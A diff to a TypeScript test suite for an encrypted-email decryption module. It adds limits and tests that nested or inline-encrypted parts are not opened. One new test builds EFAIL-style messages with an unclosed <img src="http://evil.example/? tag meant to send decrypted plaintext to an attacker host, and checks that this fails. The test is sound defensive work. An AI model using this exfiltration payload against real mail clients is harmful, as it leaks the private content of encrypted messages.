@@ -25,6 +25,13 @@ interface Recipient {
   readonly domain: string
 }
 
+const OPTIONS = {
+  limits: { layers: 3, headerBytes: 100_000, bytes: 1_000_000 },
+  allowsUnproven: () => false,
+  tags: [],
+  reference: 'REF',
+}
+
 const MARK =
   'Ibemail-Decrypted: true\r\n' +
   'Hisho-Decrypted: ibe-bf; n=1; identity="alice@b.example#2026-11"; integrity=ok; signature=unchecked\r\n'
@@ -99,6 +106,7 @@ describe('a message that arrives', () => {
       schemes: [scheme],
       normalizeAddress,
       authservIds: new Set(['mx.b.example']),
+      ...OPTIONS,
     })
   }
 
@@ -125,6 +133,7 @@ describe('a message that arrives', () => {
       schemes: [scheme],
       normalizeAddress,
       authservIds: new Set(),
+      ...OPTIONS,
     })
     assert.ok(arrival.status === 'opened')
     assert.equal(latin1(await collect(messageBytes(arrival.message))), MARK + ORIGINAL)
@@ -278,20 +287,40 @@ describe('a message that arrives', () => {
     assert.equal(await opened(outside + text), trace.join('') + MARK + ORIGINAL)
   })
 
-  it('only one layer of it is opened', async () => {
-    const inner = await sealed(ORIGINAL, 'alice@b.example')
-    assert.equal(await opened(await sealed(inner, 'alice@b.example')), MARK + inner)
-  })
-
-  it('deeper than its root nothing is opened', async () => {
+  it('C3 C4: deeper than its root nothing is opened', async () => {
     const inner = await sealed(ORIGINAL, 'alice@b.example')
     for (const type of [
       'multipart/mixed; boundary=b0',
+      'multipart/alternative; boundary=b0',
+      'multipart/related; boundary=b0',
+      'multipart/signed; boundary=b0',
       'message/rfc822',
+      'text/plain',
       'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b0',
     ]) {
       const text = `Content-Type: ${type}\r\n\r\n--b0\r\n${inner}\r\n--b0--\r\n`
-      assert.equal((await arrive(text, 'alice@b.example')).status, 'none')
+      const arrival = await arrive(text, 'alice@b.example')
+      assert.equal(arrival.status, 'none', type)
+    }
+  })
+
+  it('C3: inline OpenPGP with text around it stays as it is', async () => {
+    const pgp = '-----BEGIN PGP MESSAGE-----\r\n\r\nabcd\r\n-----END PGP MESSAGE-----\r\n'
+    const text = `From: a@a.example\r\n\r\nsee:\r\n${pgp}end\r\n`
+    assert.equal((await arrive(text, 'alice@b.example')).status, 'none')
+  })
+
+  it('C4: what stands around the encrypted part at the root is gone, not beside the plaintext', async () => {
+    const text = await sealed(ORIGINAL, 'alice@b.example')
+    const boundary = /boundary="([^"]+)"/.exec(text)?.[1] ?? ''
+    const epilogue = `${text}<img src="http://evil.example/?`
+    const part = `${text.slice(0, text.lastIndexOf(`--${boundary}--`))}--${boundary}\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--${boundary}--\r\n`
+    for (const framed of [epilogue, part]) {
+      const arrival = await arrive(framed, 'alice@b.example')
+      if (arrival.status === 'closed') continue
+      assert.ok(arrival.status === 'opened')
+      const body = await collect(messageBytes(arrival.message)).then(latin1, () => 'damaged')
+      assert.ok(body === 'damaged' || body === MARK + ORIGINAL, body)
     }
   })
 
